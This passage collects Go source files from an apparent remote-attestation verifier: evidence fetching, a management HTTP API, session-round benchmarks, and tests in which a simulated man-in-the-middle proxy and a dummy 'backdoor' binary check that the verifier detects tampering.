		SessionID:   [16]byte(sessID),
		EstablishID: [16]byte(estID),
	})
}

// fetchFullBinaryOnce runs one binary full-quote request, optionally
// establishing a session under estID and retiring the session in
// replaces.
func (v *Verifier) fetchFullBinaryOnce(ctx context.Context, a *monitored, estID, replaces session.ID, offset int) (fetched, error) {
	return v.fetchBinaryOnce(ctx, a, api.RoundRequest{
		Kind:        api.FrameQuoteRequest,
		Offset:      offset,
		EstablishID: [16]byte(estID),
		ReplacesID:  [16]byte(replaces),
	})
}

// fetchBinaryOnce POSTs one binary round request and decodes the answer.
// Error classification matches fetchQuote, plus errNoBinary for agents
// without the endpoint.
func (v *Verifier) fetchBinaryOnce(ctx context.Context, a *monitored, rr api.RoundRequest) (fetched, error) {
	nonce := make([]byte, nonceSize)
	if err := v.nonces.next(nonce); err != nil {
		return fetched{}, permanentErr("generating nonce: %v", err)
	}
	rr.Nonce = nonce
	buf := api.GetBuf()
	defer api.PutBuf(buf)
	frame, err := api.AppendRoundRequest((*buf)[:0], rr)
	if err != nil {
		return fetched{}, permanentErr("encoding round request: %v", err)
	}
	*buf = frame

	tctx, stop := v.virtualTimeout(ctx, v.retry.RequestTimeout)
	defer stop()
	req, err := http.NewRequestWithContext(tctx, http.MethodPost, a.attestURL, bytes.NewReader(frame))
	if err != nil {
		return fetched{}, permanentErr("building attest request: %v", err)
	}
	req.Header.Set("Content-Type", api.ContentTypeBinary)
	httpResp, err := v.client.Do(req)
	if err != nil {
		return fetched{}, transientErr("attest request: %v", err)
	}
	defer func() { _ = httpResp.Body.Close() }()
	switch {
	case httpResp.StatusCode == http.StatusOK:
	case httpResp.StatusCode == http.StatusNotFound,
		httpResp.StatusCode == http.StatusMethodNotAllowed,
		httpResp.StatusCode == http.StatusUnsupportedMediaType:
		// The agent predates (or disabled) the binary endpoint: negotiate
		// down to JSON, permanently for this process.
		return fetched{}, errNoBinary
	case httpResp.StatusCode >= 500:
		return fetched{}, transientErr("attest request: status %d", httpResp.StatusCode)
	default:
		return fetched{}, permanentErr("attest request: status %d", httpResp.StatusCode)
	}

	body := api.GetBuf()
	defer api.PutBuf(body)
	data, err := api.ReadFrame(httpResp.Body, body, api.MaxResponseFrame)
	if err != nil {
		return fetched{}, transientErr("reading attest response: %v", err)
	}
	round, err := api.DecodeBinaryRound(data)
	if err != nil {
		return fetched{}, transientErr("decoding attest response: %v", err)
	}
	f := fetched{nonce: nonce, binary: true}
	switch round.Kind {
	case api.FrameSessionResponse:
		sr := round.Session
		f.session = &sr
	case api.FrameQuoteResponse:
		q := round.Quote
		f.quote = q.Quote
		f.established = q.SessionEstablished
		f.resp = api.QuoteResponse{
			IMALog:        q.IMALog,
			Offset:        q.Offset,
			TotalEntries:  q.TotalEntries,
			RunningKernel: q.RunningKernel,
			MBLog:         q.MBLog,
		}
	}
	return f, nil
}

// retryFetch retries fn per the retry policy, mirroring fetchWithRetry.
// errNoBinary is not a commsError, so it returns on the first attempt.
func (v *Verifier) retryFetch(ctx context.Context, fn func(context.Context) (fetched, error)) (fetched, int, error) {
	backoff := v.retry.InitialBackoff
	var lastErr error
	for attempt := 1; ; attempt++ {
		f, err := fn(ctx)
		if err == nil {
			return f, attempt, nil
		}
		lastErr = err
		if attempt >= v.retry.MaxAttempts || !retryableComms(err) || ctx.Err() != nil {
			return fetched{}, attempt, lastErr
		}
		if err := v.sleepBackoff(ctx, backoff); err != nil {
			return fetched{}, attempt, lastErr
		}
		backoff = v.retry.nextBackoff(backoff)
	}
}

// fetchEvidence fetches full-quote evidence: binary first (when enabled
// and the agent speaks it), falling back to JSON on errNoBinary.
func (v *Verifier) fetchEvidence(ctx context.Context, a *monitored, offset int, estID, replaces session.ID, useBinary bool) (fetched, int, error) {
	if useBinary {
		f, attempts, err := v.retryFetch(ctx, func(ctx context.Context) (fetched, error) {
			return v.fetchFullBinaryOnce(ctx, a, estID, replaces, offset)
		})
		if !errors.Is(err, errNoBinary) {
			return f, attempts, err
		}
		a.setNoBinary()
	}
	return v.fetchWithRetry(ctx, a.url, offset)
}
