package verifier

import (
	"encoding/json"
	"errors"
	"net/http"
	"sort"

	"repro/internal/keylime/api"
	"repro/internal/policy"
)

// addAgentRequest mirrors tenant.AddAgentRequest without importing it.
type addAgentRequest struct {
	AgentURL string          `json:"agent_url"`
	Policy   json.RawMessage `json:"policy"`
}

// wireStatus is the JSON form of Status.
type wireStatus struct {
	AgentID           string        `json:"agent_id"`
	State             string        `json:"operational_state"`
	Attestations      int           `json:"attestation_count"`
	VerifiedEntries   int           `json:"verified_entries"`
	Halted            bool          `json:"halted"`
	Degraded          bool          `json:"degraded"`
	ConsecutiveFaults int           `json:"consecutive_faults"`
	Breaker           string        `json:"breaker"`
	BreakerOpenUntil  string        `json:"breaker_open_until,omitempty"`
	Failures          []wireFailure `json:"failures"`
}

type wireFailure struct {
	Time   string `json:"time"`
	Type   string `json:"type"`
	Path   string `json:"path,omitempty"`
	Detail string `json:"detail"`
}

// ManagementHandler returns the verifier's management HTTP API, consumed by
// the tenant tool:
//
//	POST   /v2/agents/{id}         {agent_url, policy} -> enroll agent
//	GET    /v2/agents/{id}                             -> status
//	PUT    /v2/agents/{id}/policy  policy JSON         -> update policy
//	POST   /v2/agents/{id}/resume                      -> resume after failure
//	DELETE /v2/agents/{id}                             -> stop monitoring
func (v *Verifier) ManagementHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		var body addAgentRequest
		if err := json.NewDecoder(req.Body).Decode(&body); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		pol := policy.New()
		if len(body.Policy) > 0 {
			if err := json.Unmarshal(body.Policy, pol); err != nil {
				writeMgmtErr(w, http.StatusBadRequest, err)
				return
			}
		}
		if err := v.AddAgent(req.PathValue("id"), body.AgentURL, pol); err != nil {
			status := http.StatusBadGateway
			switch {
			case errors.Is(err, ErrDuplicate):
				status = http.StatusConflict
			case errors.Is(err, ErrAgentInactive):
				status = http.StatusForbidden
			}
			writeMgmtErr(w, status, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("GET /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		st, err := v.Status(req.PathValue("id"))
		if err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		out := wireStatus{
			AgentID:           st.AgentID,
			State:             st.State.String(),
			Attestations:      st.Attestations,
			VerifiedEntries:   st.VerifiedEntries,
			Halted:            st.Halted,
			Degraded:          st.Degraded,
			ConsecutiveFaults: st.ConsecutiveFaults,
			Breaker:           st.Breaker.String(),
		}
		if !st.BreakerOpenUntil.IsZero() {
			out.BreakerOpenUntil = st.BreakerOpenUntil.UTC().Format("2006-01-02T15:04:05Z07:00")
		}
		for _, f := range st.Failures {
			out.Failures = append(out.Failures, wireFailure{
				Time:   f.Time.UTC().Format("2006-01-02T15:04:05Z07:00"),
				Type:   f.Type.String(),
				Path:   f.Path,
				Detail: f.Detail,
			})
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(out)
	})
	mux.HandleFunc("PUT /v2/agents/{id}/policy", func(w http.ResponseWriter, req *http.Request) {
		pol := policy.New()
		if err := json.NewDecoder(req.Body).Decode(pol); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		if err := v.UpdatePolicy(req.PathValue("id"), pol); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("PUT /v2/agents/{id}/policy-signed", func(w http.ResponseWriter, req *http.Request) {
		var env policy.Envelope
		if err := json.NewDecoder(req.Body).Decode(&env); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		if err := v.UpdateSignedPolicy(req.PathValue("id"), env); err != nil {
			status := http.StatusForbidden
			if errors.Is(err, ErrUnknownAgent) {
				status = http.StatusNotFound
			}
			writeMgmtErr(w, status, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("POST /v2/agents/{id}/resume", func(w http.ResponseWriter, req *http.Request) {
		if err := v.Resume(req.PathValue("id")); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("DELETE /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		if err := v.RemoveAgent(req.PathValue("id")); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("GET /v2/agents", func(w http.ResponseWriter, req *http.Request) {
		ids := v.AgentIDs()
		sort.Strings(ids)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string][]string{"agents": ids})
	})
	return mux
}

func writeMgmtErr(w http.ResponseWriter, status int, err error) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(api.ErrorResponse{Error: err.Error()})
}
