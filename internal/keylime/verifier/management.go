package verifier

import (
	"encoding/json"
	"errors"
	"net/http"
	"sort"

	"repro/internal/keylime/api"
	"repro/internal/policy"
)

// addAgentRequest mirrors tenant.AddAgentRequest without importing it.
type addAgentRequest struct {
	AgentURL string          `json:"agent_url"`
	Policy   json.RawMessage `json:"policy"`
}

// wireStatus is the JSON form of Status.
type wireStatus struct {
	AgentID           string        `json:"agent_id"`
	State             string        `json:"operational_state"`
	Attestations      int           `json:"attestation_count"`
	VerifiedEntries   int           `json:"verified_entries"`
	Halted            bool          `json:"halted"`
	Degraded          bool          `json:"degraded"`
	ConsecutiveFaults int           `json:"consecutive_faults"`
	Breaker           string        `json:"breaker"`
	BreakerOpenUntil  string        `json:"breaker_open_until,omitempty"`
	PolicyGeneration  uint64        `json:"policy_generation,omitempty"`
	ShadowGeneration  uint64        `json:"shadow_generation,omitempty"`
	SessionActive     bool          `json:"session_active,omitempty"`
	SessionRounds     int           `json:"session_rounds_since_full,omitempty"`
	LastCheckLevel    string        `json:"last_check_level,omitempty"`
	Failures          []wireFailure `json:"failures"`
}

// wireShadowStatus is the JSON form of ShadowEvalStatus.
type wireShadowStatus struct {
	Installed   bool                 `json:"installed"`
	Generation  uint64               `json:"generation"`
	Rounds      int                  `json:"rounds"`
	CleanRounds int                  `json:"clean_rounds"`
	WouldFail   int                  `json:"would_fail"`
	WouldPass   int                  `json:"would_pass"`
	Divergences []wireShadowDiverged `json:"divergences,omitempty"`
}

type wireShadowDiverged struct {
	Time      string `json:"time"`
	Path      string `json:"path"`
	WouldFail bool   `json:"would_fail"`
	Detail    string `json:"detail"`
}

// RegisterStats registers a named operational-stats provider, served at
// GET /v2/stats/{name}. fn is called per request and its result JSON-
// encoded; it must be safe for concurrent use. Registering a name again
// replaces the provider. This inverts the dependency for components that
// import the verifier and therefore cannot be imported by it — the
// webhook outbox and the rollout controller both surface their state here.
func (v *Verifier) RegisterStats(name string, fn func() any) {
	v.statsMu.Lock()
	defer v.statsMu.Unlock()
	v.statsProviders[name] = fn
}

// statsProvider looks up a registered provider.
func (v *Verifier) statsProvider(name string) (func() any, bool) {
	v.statsMu.Lock()
	defer v.statsMu.Unlock()
	fn, ok := v.statsProviders[name]
	return fn, ok
}

// statsNames lists the registered providers, sorted.
func (v *Verifier) statsNames() []string {
	v.statsMu.Lock()
	defer v.statsMu.Unlock()
	names := make([]string, 0, len(v.statsProviders))
	for n := range v.statsProviders {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

type wireFailure struct {
	Time   string `json:"time"`
	Type   string `json:"type"`
	Path   string `json:"path,omitempty"`
	Detail string `json:"detail"`
}

// ManagementHandler returns the verifier's management HTTP API, consumed by
// the tenant tool:
//
//	POST   /v2/agents/{id}         {agent_url, policy} -> enroll agent
//	GET    /v2/agents/{id}                             -> status
//	PUT    /v2/agents/{id}/policy  policy JSON         -> update policy
//	POST   /v2/agents/{id}/resume                      -> resume after failure
//	DELETE /v2/agents/{id}                             -> stop monitoring
func (v *Verifier) ManagementHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		var body addAgentRequest
		if err := json.NewDecoder(req.Body).Decode(&body); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		pol := policy.New()
		if len(body.Policy) > 0 {
			if err := json.Unmarshal(body.Policy, pol); err != nil {
				writeMgmtErr(w, http.StatusBadRequest, err)
				return
			}
		}
		if err := v.AddAgent(req.PathValue("id"), body.AgentURL, pol); err != nil {
			status := http.StatusBadGateway
			switch {
			case errors.Is(err, ErrDuplicate):
				status = http.StatusConflict
			case errors.Is(err, ErrAgentInactive):
				status = http.StatusForbidden
			}
			writeMgmtErr(w, status, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("GET /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		st, err := v.Status(req.PathValue("id"))
		if err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		out := wireStatus{
			AgentID:           st.AgentID,
			State:             st.State.String(),
			Attestations:      st.Attestations,
			VerifiedEntries:   st.VerifiedEntries,
			Halted:            st.Halted,
			Degraded:          st.Degraded,
			ConsecutiveFaults: st.ConsecutiveFaults,
			Breaker:           st.Breaker.String(),
			PolicyGeneration:  st.PolicyGeneration,
			ShadowGeneration:  st.ShadowGeneration,
			SessionActive:     st.SessionActive,
			SessionRounds:     st.SessionRoundsSinceFull,
			LastCheckLevel:    st.LastCheckLevel,
		}
		if !st.BreakerOpenUntil.IsZero() {
			out.BreakerOpenUntil = st.BreakerOpenUntil.UTC().Format("2006-01-02T15:04:05Z07:00")
		}
		for _, f := range st.Failures {
			out.Failures = append(out.Failures, wireFailure{
				Time:   f.Time.UTC().Format("2006-01-02T15:04:05Z07:00"),
				Type:   f.Type.String(),
				Path:   f.Path,
				Detail: f.Detail,
			})
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(out)
	})
	mux.HandleFunc("PUT /v2/agents/{id}/policy", func(w http.ResponseWriter, req *http.Request) {
		pol := policy.New()
		if err := json.NewDecoder(req.Body).Decode(pol); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		if err := v.UpdatePolicy(req.PathValue("id"), pol); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("PUT /v2/agents/{id}/policy-signed", func(w http.ResponseWriter, req *http.Request) {
		var env policy.Envelope
		if err := json.NewDecoder(req.Body).Decode(&env); err != nil {
			writeMgmtErr(w, http.StatusBadRequest, err)
			return
		}
		if err := v.UpdateSignedPolicy(req.PathValue("id"), env); err != nil {
			status := http.StatusForbidden
			if errors.Is(err, ErrUnknownAgent) {
				status = http.StatusNotFound
			}
			writeMgmtErr(w, status, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("POST /v2/agents/{id}/resume", func(w http.ResponseWriter, req *http.Request) {
		if err := v.Resume(req.PathValue("id")); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("DELETE /v2/agents/{id}", func(w http.ResponseWriter, req *http.Request) {
		if err := v.RemoveAgent(req.PathValue("id")); err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		w.WriteHeader(http.StatusOK)
	})
	mux.HandleFunc("GET /v2/agents", func(w http.ResponseWriter, req *http.Request) {
		ids := v.AgentIDs()
		sort.Strings(ids)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string][]string{"agents": ids})
	})
	mux.HandleFunc("GET /v2/agents/{id}/shadow", func(w http.ResponseWriter, req *http.Request) {
		st, err := v.ShadowStatus(req.PathValue("id"))
		if err != nil {
			writeMgmtErr(w, http.StatusNotFound, err)
			return
		}
		out := wireShadowStatus{
			Installed:   st.Installed,
			Generation:  st.Generation,
			Rounds:      st.Rounds,
			CleanRounds: st.CleanRounds,
			WouldFail:   st.WouldFail,
			WouldPass:   st.WouldPass,
		}
		for _, d := range st.Divergences {
			out.Divergences = append(out.Divergences, wireShadowDiverged{
				Time:      d.Time.UTC().Format("2006-01-02T15:04:05Z07:00"),
				Path:      d.Path,
				WouldFail: d.WouldFail,
				Detail:    d.Detail,
			})
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(out)
	})
	mux.HandleFunc("GET /v2/stats", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string][]string{"providers": v.statsNames()})
	})
	mux.HandleFunc("GET /v2/stats/{name}", func(w http.ResponseWriter, req *http.Request) {
		fn, ok := v.statsProvider(req.PathValue("name"))
		if !ok {
			writeMgmtErr(w, http.StatusNotFound,
				errors.New("verifier: no such stats provider"))
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(fn())
	})
	return mux
}

func writeMgmtErr(w http.ResponseWriter, status int, err error) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(api.ErrorResponse{Error: err.Error()})
}
