package verifier_test

// Session-round cost benchmarks. BenchmarkSessionRoundWire is the number
// BENCH_pr7.json and the CI alloc gate track: the full computational
// content of one steady-state round — verifier request encode, agent
// decode + MAC + response encode, verifier decode + MAC verify — with the
// HTTP transport excluded (both ends use pooled buffers on the real
// path, so the wire work IS the round). The AttestOnce pair measures the
// same round through the whole loopback HTTP stack for an end-to-end
// comparison against a full-quote round.

import (
	"context"
	"crypto/rand"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"

	"repro/internal/core"
	"repro/internal/keylime/agent"
	"repro/internal/keylime/api"
	"repro/internal/keylime/session"
	"repro/internal/keylime/verifier"
	"repro/internal/machine"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// loopbackTransport serves every request in-process against one handler.
type loopbackTransport struct {
	h http.Handler
}

func (t loopbackTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	rec := httptest.NewRecorder()
	t.h.ServeHTTP(rec, req)
	resp := rec.Result()
	resp.Request = req
	return resp, nil
}

// sessionWireRound runs the computational content of one steady-state
// session round and returns the response frame length. Both MAC halves
// run (agent Sum, verifier Verify), as on the real path.
func sessionWireRound(reqBuf, rspBuf []byte, nonce []byte, id session.ID,
	agentMAC, verifierMAC *session.MACer, composite tpm.Digest, total int) (int, error) {
	frame, err := api.AppendRoundRequest(reqBuf[:0], api.RoundRequest{
		Kind:      api.FrameSessionRequest,
		Nonce:     nonce,
		Offset:    total,
		SessionID: [16]byte(id),
	})
	if err != nil {
		return 0, err
	}
	rr, err := api.DecodeRoundRequest(frame)
	if err != nil {
		return 0, err
	}
	var sr api.SessionRound
	sr.TotalEntries = rr.Offset
	sr.Composite = composite
	agentMAC.Sum(rr.Nonce, sr.Composite, uint64(sr.TotalEntries), &sr.MAC)
	rsp := api.AppendSessionRound(rspBuf[:0], sr)
	round, err := api.DecodeBinaryRound(rsp)
	if err != nil {
		return 0, err
	}
	got := round.Session
	if !verifierMAC.Verify(rr.Nonce, got.Composite, uint64(got.TotalEntries), got.MAC[:]) {
		return 0, fmt.Errorf("session MAC did not verify")
	}
	return len(rsp), nil
}

func newSessionWireFixture(tb testing.TB) (nonce []byte, id session.ID,
	agentMAC, verifierMAC *session.MACer, composite tpm.Digest) {
	tb.Helper()
	nonce = make([]byte, 20)
	if _, err := rand.Read(nonce); err != nil {
		tb.Fatalf("nonce: %v", err)
	}
	copy(id[:], []byte("0123456789abcdef"))
	var key [session.KeySize]byte
	if _, err := rand.Read(key[:]); err != nil {
		tb.Fatalf("key: %v", err)
	}
	copy(composite[:], []byte("pcr-composite-reference-32-bytes"))
	return nonce, id, session.NewMACer(key[:]), session.NewMACer(key[:]), composite
}

func BenchmarkSessionRoundWire(b *testing.B) {
	nonce, id, agentMAC, verifierMAC, composite := newSessionWireFixture(b)
	reqBuf := make([]byte, 0, api.MaxRequestFrame)
	rspBuf := make([]byte, 0, api.SessionRoundSize)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		n, err := sessionWireRound(reqBuf, rspBuf, nonce, id, agentMAC, verifierMAC, composite, 1234)
		if err != nil {
			b.Fatal(err)
		}
		if i == 0 {
			b.ReportMetric(float64(n), "wire-bytes/round")
		}
	}
}

// benchStack builds a one-agent loopback deployment for end-to-end round
// benchmarks.
func benchStack(b *testing.B, vOpts ...verifier.Option) (*verifier.Verifier, string) {
	b.Helper()
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		b.Fatalf("NewManufacturerCA: %v", err)
	}
	m, err := machine.New(ca, machine.WithTPMOptions(tpm.WithEKBits(1024)))
	if err != nil {
		b.Fatalf("New machine: %v", err)
	}
	if err := m.WriteFile("/usr/bin/tool", []byte("\x7fELF tool"), vfs.ModeExecutable); err != nil {
		b.Fatalf("WriteFile: %v", err)
	}
	if err := m.Exec("/usr/bin/tool"); err != nil {
		b.Fatalf("Exec: %v", err)
	}
	akPub, err := m.TPM().CreateAK()
	if err != nil {
		b.Fatalf("CreateAK: %v", err)
	}
	pol, err := core.SnapshotPolicy(m.FS(), nil)
	if err != nil {
		b.Fatalf("SnapshotPolicy: %v", err)
	}
	ag := agent.New(m)
	client := &http.Client{Transport: loopbackTransport{h: ag.Handler()}}
	v := verifier.New("", append([]verifier.Option{verifier.WithHTTPClient(client)}, vOpts...)...)
	b.Cleanup(v.Close)
	id := "bench0000-d2f1-4a97-9ef7-75bd81c00001"
	if err := v.AddAgentWithAK(id, "http://agent.bench.internal", akPub, pol); err != nil {
		b.Fatalf("AddAgentWithAK: %v", err)
	}
	return v, id
}

func benchAttestLoop(b *testing.B, v *verifier.Verifier, id string, want verifier.CheckLevel) {
	b.Helper()
	ctx := context.Background()
	res, err := v.AttestOnce(ctx, id) // warm-up: full log fetch (+ establish)
	if err != nil || res.Failure != nil {
		b.Fatalf("warm-up round: res=%+v err=%v", res, err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := v.AttestOnce(ctx, id)
		if err != nil || res.Failure != nil {
			b.Fatalf("round: res=%+v err=%v", res, err)
		}
		if res.CheckLevel != want {
			b.Fatalf("check level = %v, want %v", res.CheckLevel, want)
		}
	}
}

func BenchmarkAttestOnceSessionRound(b *testing.B) {
	v, id := benchStack(b, verifier.WithSessionPolicy(1<<30, 0))
	benchAttestLoop(b, v, id, verifier.CheckSession)
}

func BenchmarkAttestOnceFullQuoteJSON(b *testing.B) {
	v, id := benchStack(b)
	benchAttestLoop(b, v, id, verifier.CheckFull)
}

func BenchmarkAttestOnceFullQuoteBinary(b *testing.B) {
	v, id := benchStack(b, verifier.WithBinaryWireFormat(true))
	benchAttestLoop(b, v, id, verifier.CheckFull)
}
