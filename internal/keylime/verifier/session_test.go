package verifier_test

// Sessioned-attestation tests: lifecycle and rotation, escalation on
// every kind of state change, and — most importantly — the adversarial
// suite proving a session-MAC round can never mask an integrity failure
// a full quote would have caught (the forced-downgrade attack).

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"sync"
	"testing"
	"time"

	"repro/internal/keylime/api"
	"repro/internal/keylime/audit"
	"repro/internal/keylime/verifier"
	"repro/internal/simclock"
)

// sessionOpts enables sessions with a rotation count and no TTL.
func sessionOpts(every int, extra ...verifier.Option) []verifier.Option {
	return append([]verifier.Option{verifier.WithSessionPolicy(every, 0)}, extra...)
}

func TestSessionLifecycleAndRotation(t *testing.T) {
	s := newStack(t, nil, sessionOpts(4)...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	// Round 1 establishes; rounds 2..4 ride the session MAC; round 5 is
	// the scheduled rotation (a plain full quote, not a forced upgrade).
	want := []string{"full", "session", "session", "session", "full", "session"}
	for i, w := range want {
		res := attest(t, s)
		if res.Failure != nil {
			t.Fatalf("round %d: unexpected failure %+v", i+1, res.Failure)
		}
		if got := res.CheckLevel.String(); got != w {
			t.Fatalf("round %d: check level = %q, want %q", i+1, got, w)
		}
	}

	st, err := s.v.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if !st.SessionActive || st.SessionRoundsSinceFull != 1 {
		t.Fatalf("status = active=%v rounds=%d, want active with 1 session round",
			st.SessionActive, st.SessionRoundsSinceFull)
	}
	if st.LastCheckLevel != "session" {
		t.Fatalf("LastCheckLevel = %q, want session", st.LastCheckLevel)
	}
	if st.Attestations != len(want) {
		t.Fatalf("attestations = %d, want %d (session rounds count)", st.Attestations, len(want))
	}
	// The agent replaced the rotated-out session rather than accumulating.
	if n := s.ag.SessionCount(); n != 1 {
		t.Fatalf("agent sessions = %d, want 1", n)
	}
}

func TestSessionEscalatesOnNewActivity(t *testing.T) {
	s := newStack(t, nil, sessionOpts(1000)...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	writeExec(t, s.m, "/usr/bin/tool2", "also-ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	if res := attest(t, s); res.CheckLevel != verifier.CheckFull {
		t.Fatalf("establishing round check = %v", res.CheckLevel)
	}
	if res := attest(t, s); res.CheckLevel != verifier.CheckSession {
		t.Fatalf("steady round check = %v", res.CheckLevel)
	}

	// New measured activity: the agent cannot answer the session request
	// (its frontier moved), so it escalates to a full quote in the same
	// round trip — the new entry is verified, nothing is skipped.
	exec(t, s.m, "/usr/bin/tool2")
	res := attest(t, s)
	if res.CheckLevel != verifier.CheckForcedFull {
		t.Fatalf("post-activity check = %v, want full-forced", res.CheckLevel)
	}
	if res.Failure != nil || res.NewEntries != 1 {
		t.Fatalf("post-activity round = %+v, want 1 new verified entry", res)
	}
	// The escalation re-keyed in the same round: steady state resumes.
	if res := attest(t, s); res.CheckLevel != verifier.CheckSession {
		t.Fatalf("post-escalation check = %v, want session", res.CheckLevel)
	}
}

func TestSessionEscalationCatchesTamper(t *testing.T) {
	// The core downgrade-attack property: an out-of-policy execution after
	// session establishment is detected with exactly the same verdict a
	// full-quote-every-round verifier would produce.
	s := newStack(t, nil, sessionOpts(1000)...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	attest(t, s)
	attest(t, s) // steady state on the session MAC

	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	exec(t, s.m, "/usr/bin/backdoor")
	res := attest(t, s)
	if res.Failure == nil || res.Failure.Type != verifier.FailureNotInPolicy ||
		res.Failure.Path != "/usr/bin/backdoor" {
		t.Fatalf("Failure = %+v, want not-in-policy on /usr/bin/backdoor", res.Failure)
	}
	if res.CheckLevel != verifier.CheckForcedFull {
		t.Fatalf("check level = %v, want full-forced (audit must show the escalation)", res.CheckLevel)
	}
}

// binaryProxy is an attacker-in-the-middle on the binary attestation
// endpoint: it forwards requests to the real agent and lets the test
// rewrite the response frame bytes. Non-attest paths pass through
// untouched (registration, JSON fallback).
type binaryProxy struct {
	t     *testing.T
	srv   *httptest.Server
	mu    sync.Mutex
	onRsp func(req []byte, rsp []byte) []byte
}

func newBinaryProxy(t *testing.T, agentURL string) *binaryProxy {
	t.Helper()
	p := &binaryProxy{t: t}
	target, err := url.Parse(agentURL)
	if err != nil {
		t.Fatalf("parsing agent URL: %v", err)
	}
	passthrough := httputil.NewSingleHostReverseProxy(target)
	p.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path != api.AttestPath {
			passthrough.ServeHTTP(w, req)
			return
		}
		reqBody, err := io.ReadAll(req.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		fwd, err := http.NewRequest(http.MethodPost, agentURL+api.AttestPath, bytes.NewReader(reqBody))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		fwd.Header.Set("Content-Type", req.Header.Get("Content-Type"))
		rsp, err := http.DefaultClient.Do(fwd)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer func() { _ = rsp.Body.Close() }()
		body, err := io.ReadAll(rsp.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		p.mu.Lock()
		tamper := p.onRsp
		p.mu.Unlock()
		if rsp.StatusCode == http.StatusOK && tamper != nil {
			body = tamper(reqBody, body)
		}
		w.WriteHeader(rsp.StatusCode)
		_, _ = w.Write(body)
	}))
	t.Cleanup(p.srv.Close)
	return p
}

func (p *binaryProxy) setTamper(fn func(req, rsp []byte) []byte) {
	p.mu.Lock()
	p.onRsp = fn
	p.mu.Unlock()
}

func TestForgedSessionMACCannotProduceFalsePass(t *testing.T) {
	// Forced-downgrade attack: after tampering with the machine, the
	// attacker suppresses the agent's full-quote escalation and replays
	// the last session frame that authenticated cleanly, hoping the
	// verifier stays on the cheap path and never sees the new log entry.
	// The replay fails (the MAC covers this round's nonce), the verifier
	// escalates to a full quote in the same round, and the tamper is
	// caught. At no point does a session-MAC round return a pass.
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	exec(t, s.m, "/usr/bin/tool")

	proxy := newBinaryProxy(t, s.agSrv.URL)
